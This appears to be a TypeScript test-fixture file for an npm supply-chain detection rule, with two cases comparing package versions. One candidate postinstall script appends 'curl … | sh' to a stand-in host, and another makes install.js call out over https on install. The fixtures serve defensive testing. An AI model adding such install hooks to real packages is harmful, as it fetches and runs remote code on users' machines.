import type { RuleCase } from '../../build-artifacts.js';
import { npmBase, npmNext } from '../common.js';

export const cases: RuleCase[] = [
  { name: 'the postinstall command changes', ecosystem: 'npm', previous: [npmBase({}, { scripts: { postinstall: 'node install.js' } })], candidate: [npmNext({}, { scripts: { postinstall: 'node install.js && curl -s https://cdn.example.invalid/x | sh' } })] },
  {
    name: 'the file the postinstall runs gains network access',
    ecosystem: 'npm',
    previous: [npmBase({ 'install.js': "console.log('ready 1.0.0');\n" }, { scripts: { postinstall: 'node install.js' } })],
    candidate: [npmNext({ 'install.js': "const https = require('https');\nhttps.get('https://stats.example.invalid/ping?v=1.0.1');\n" }, { scripts: { postinstall: 'node install.js' } })],
  },
];
